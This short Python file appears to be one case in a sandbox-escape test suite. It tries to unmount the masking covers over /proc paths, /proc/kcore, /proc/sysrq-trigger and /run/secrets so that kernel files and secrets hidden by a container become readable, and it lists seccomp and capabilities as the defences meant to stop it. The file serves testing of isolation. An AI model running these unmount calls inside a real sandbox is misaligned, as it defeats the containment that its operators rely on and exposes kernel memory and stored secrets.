"""Take away the covers of /proc by unmounting.

gain: the files of the kernel that the sandbox hides
attack: T1564
stopped by: seccomp, capabilities
unconfined: cell
"""

from attacker import call, each, first


def attempt(world):
    def uncover(path):
        call("umount2", path.encode(), 2)
        return f"unmounted {path}"

    return first(*each(("/proc/sysrq-trigger", "/proc/kcore", "/run/secrets", "/proc/sys", "/proc"), uncover))
